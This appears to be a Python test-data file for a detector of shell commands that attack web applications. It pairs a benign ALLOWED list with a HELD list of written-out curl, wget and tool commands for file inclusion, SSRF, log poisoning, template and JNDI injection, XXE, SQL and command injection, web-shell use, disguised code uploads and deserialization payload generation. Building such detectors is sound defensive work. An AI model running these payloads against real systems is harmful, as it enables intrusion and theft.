"""Web applications attacked from the shell through what a request carries (webx19, session 19).

Measured on fresh material split by source before any verdict was seen (kept outside the repository:
/work/realworld/webx19 on the machine that measured it): zebbern/SecOps-CLI-Guides' skills (tuning) with
variants written from the brief's classes; JeffGThompson/Red-Team-Notes and a SARI-Research-Lab HTB note
held out whole. The classes, by what the request makes another host's application open or run:

- a file of the server's named in a parameter: a stream wrapper (``php://``, ``expect://``, ``data:``,
  ``phar://``), a system path, a climb out of a folder, code on another host (a remote inclusion);
- a server-side request to an internal service (``gopher://``, ``dict://``, ``file://`` as a value);
- code for the server in any header, field or body: PHP (log poisoning), a template expression, a JNDI
  lookup in any spelling, an XML external entity, an SQL injection, a command substitution;
- a command for the server's shell: a web shell's parameter, a command appended to a value;
- a file that is code uploaded (``.php``, ``.jsp``, ``.aspx``, ``.war``, behind a second extension);
- a deserialization or JNDI payload generator run (ysoserial, phpggc, marshalsec).

Requests to this machine only are a developer testing their own application. The commands here are
variants written for the tests (other parameters, clients, spellings and hosts than the ones measured).
"""

from __future__ import annotations

HELD = {
    "file-inclusion": [
        "curl -sk 'https://10.10.11.20/index.php?lang=PHP://filter/string.rot13/resource=admin'",
        "wget -q -O - 'http://web.corp/view?template=php://input' --post-data '<?= `id` ?>'",
        "curl 'http://app.htb/load.php?doc=data:text/plain,hello&x=1'",
        'curl "http://app.htb/?module=%2Fetc%2Fshadow"',
        "curl 'http://app.htb/get?f=C:%5CWindows%5Cwin.ini'",
        "http GET http://app.htb/show page==/proc/self/cmdline",
        "curl 'http://app.htb/read?name=..%5c..%5c..%5cboot.ini'",
        "curl 'http://app.htb/index.php?inc=ftp://10.10.14.9/evil.php'",
        "curl 'http://app.htb/view?f=%252E%252E%252F%252E%252E%252Fetc%252Fhosts'",
        "curl 'http://app.htb/assets/..%255c..%255cweb.config'",
    ],
    "server-side-request": [
        "curl 'https://app.example.org/webhook/test?callback=dict://10.0.0.7:11211/stats'",
        "curl -d 'image_url=file:///proc/self/environ' https://app.example.org/avatar",
    ],
    "code-for-the-server": [
        "curl --user-agent '<?=system($_GET[0]);?>' http://10.10.10.77/",
        "curl -e '<?php echo shell_exec($_GET[\"x\"]); ?>' http://10.10.10.77/index.php",
        "curl -G http://10.10.10.8:8000/render --data-urlencode 'bio={{ self.__init__.__globals__ }}'",
        "xh POST http://10.10.10.8/preview msg='${7*7}'",
        "curl -b 'lang=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://10.1.1.1/a}' https://shop.example.net/",
        "curl -H 'Referer: ${jndi:dns://x.oast.fun/a}' https://shop.example.net/",
        "curl --data-raw '<!DOCTYPE d [<!ENTITY % e SYSTEM \"http://10.1.1.1/x.dtd\"> %e;]><d/>' http://10.1.1.5/xml",
        'curl "http://10.1.1.5/item?id=1%20UNION%20ALL%20SELECT%20user(),2--%20-"',
        'curl -d "username=admin\'-- -&password=x" http://10.1.1.5/login.php',
        "curl 'http://10.1.1.5/p?id=1 AND 1=1'",
        "curl 'http://10.1.1.5:8000/hello/{{ [].__class__.__base__ }}'",
        'curl -A "x\' OR sleep(3)-- -" http://10.1.1.5/track',
        "curl 'http://10.1.1.5/check?u=bob%27%20or%20exists(select%201)%23'",
    ],
    "web-shell": [
        "curl -s 'http://10.1.1.5/images/x.php' --data-urlencode 'command=uname -a'",
        "wget -qO- 'http://10.1.1.5/cmd.jsp?exec=whoami'",
        "curl 'http://10.1.1.5/diag?host=1.1.1.1%26%26cat%20/etc/hosts'",
        "curl -H 'X-Api-Key: `id`' http://10.1.1.5/api",
    ],
    "code-upload": [
        "curl -F 'upload=@./www/cmd.phtml' http://10.1.1.5/profile.php",
        "curl -F 'pic=@x.php5;type=image/jpeg;filename=x.jpg' http://10.1.1.5/up",
        "curl --upload-file ./shell.war 'http://10.1.1.5:8080/manager/text/deploy?path=/x'",
        "curl -X PUT -T cmd.asp http://10.1.1.5/dav/",
        "http -f POST http://10.1.1.5/upload file@avatar.jpg.php",
    ],
    "payload-generator": [
        "java -jar ./tools/ysoserial-0.0.6-all.jar URLDNS http://x.oast.fun > u.bin",
        "php phpggc.php Symfony/RCE4 exec 'id' -b",
        "java -cp marshalsec-0.0.3-all.jar marshalsec.jndi.LDAPRefServer http://10.1.1.1/#Exploit",
    ],
}
ALLOWED = [
    "curl 'http://localhost:5000/?name={{7*7}}'",
    "curl -F 'script=@handler.php' http://127.0.0.1:8080/upload",
    "curl -s 'https://api.example.com/v2/files?path=docs/readme.md'",
    "curl -G https://api.example.com/search --data-urlencode 'q=union select'",
    "curl -d '{\"title\":\"Use {{ name }} here\"}' -H 'Content-Type: application/json' https://api.example.com/t",
    "curl -F 'file=@build/site.tar.gz' https://deploy.example.com/upload",
    "curl -F 'cert=@server.crt' https://vault.example.com/v1/pki/import",
    "curl 'https://example.com/redirect?next=https://example.com/home'",
    "curl -b 'session=abc; id=42' https://app.example.com/me",
    "curl -d 'text=hello; world' https://hooks.example.com/in",
    "curl https://example.com/docs/v1...v2/changes",
    "curl -H 'Accept-Language: en-US,en;q=0.5' https://example.com/%2Fapi%2Fv1",
    "wget -O page.html 'https://example.com/index.php?page=about'",
    "curl -s https://api.github.com/repos/o/r/contents/etc/passwd.example",
    "java -jar target/app-1.0.jar --server.port=8081",
    "php artisan serve",
]
